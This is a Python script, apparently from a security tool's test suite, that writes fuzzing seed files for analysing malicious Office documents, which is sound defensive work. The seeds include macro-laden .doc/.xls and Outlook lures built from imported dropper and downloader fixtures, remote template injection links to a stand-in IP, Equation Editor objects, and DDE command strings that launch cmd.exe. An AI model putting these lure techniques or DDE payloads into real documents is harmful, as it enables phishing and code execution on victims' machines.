#!/usr/bin/env python3
"""office_seeds.py - seed inputs for fuzz_office, written into DIR

    python3 tests/fuzz/office_seeds.py DIR

The compound files, VBA projects, relationship parts and RTF documents of
tests/fixtures/lures_office.py (imported, not copied): .doc/.xls with a VBA
storage, vbaProject.bin alone, an Outlook .msg carrying a .doc, the same
without macros, settings.xml.rels with external templates and a local one,
a hyperlink part, RTF with a template URL, Equation Editor objects in RTF
(plain, and broken hex under another class) and in a .doc's ObjectPool,
DDE fields, a DDE formula sheet and a CSV.
Deterministic.
"""
import os
import sys

HERE = os.path.dirname(os.path.realpath(__file__))
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(HERE, "..", "fixtures"))
import lures_office as o  # noqa: E402
import lures_dde as dde  # noqa: E402
import lures_equation as eq  # noqa: E402


def main(out):
    os.makedirs(out, exist_ok=True)
    drop = [("ThisDocument", o.DROPPER, True)]
    two = [("ThisDocument", o.FORMAT_TABLE, True), ("Module1", o.DOWNLOADER, False)]
    seeds = {
        "macro.doc": o.doc_ole2(drop),
        "two-modules.doc": o.doc_ole2(two),
        "macro.xls": o.xls_ole2([("ThisWorkbook", o.WORKBOOK_OPEN, True)]),
        "plain.doc": o.doc_ole2(),
        "vbaProject.bin": o.vba_bin([("Module1", o.OBFUSCATED, False)]),
        "invoice.msg": o.outlook_msg("Invoice", "Invoice.doc", o.doc_ole2(drop)),
        "dir.bin": o.vba_dir([("Module1", 37, False), ("ThisDocument", 138, True)]),
        "source.ovba": o.ovba_compress(o.REFRESH.encode()),
        "template.rels": o.rels([("rId1", "attachedTemplate", "http://198.51.100.23/t.dotm",
                                  True)]),
        "unc.rels": o.rels([("rId1", "attachedTemplate", "\\\\198.51.100.23\\s\\t.dotm", True)]),
        "normal.rels": o.rels([("rId1", "attachedTemplate",
                                "file:///C:\\Users\\a\\Templates\\Normal.dotm", True)]),
        "links.rels": o.rels([("rId5", "hyperlink", "https://www.example.org/", True),
                              ("rId7", "oleObject", "mhtml:http://198.51.100.23/a!x", True)]),
        "template.rtf": o.rtf("Hi", "http://198.51.100.23/t.dotm"),
        "escaped.rtf": o.rtf("Hi", "\\'68\\'74tp://198.51.100.23/t\n.dotm"),
        "equation.rtf": eq.rtf_object(eq.hexed(eq.ole1(b"Equation.3", eq.equation_cfb())),
                                      "Equation.3"),
        "equation-broken.rtf": eq.rtf_object(eq.broken_hex(eq.ole1(b"Word.Document.8",
                                                                   eq.equation_cfb())),
                                             header="{\\rt"),
        "equation-pool.doc": eq.doc_with_pool(eq.EQ_CLSID),
        "dde-document.xml": o.XML.encode() + dde.field([" DD", "EAUTO ", "c:\\x.exe &quot;/k&quot;"])
        .encode() + dde.field(["QUOTE 68 68 69"]).encode(),
        "dde-sheet.xml": dde.sheet_with(["cmd|' /C calc'!A0", "BLP|M!'x'"]),
        "dde.csv": b"a,b\r\n=MSEXCEL|'\\..\\cmd.exe /c calc'!''\r\n",
    }
    for name, data in sorted(seeds.items()):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.stderr.write("usage: office_seeds.py DIR\n")
        sys.exit(2)
    main(sys.argv[1])
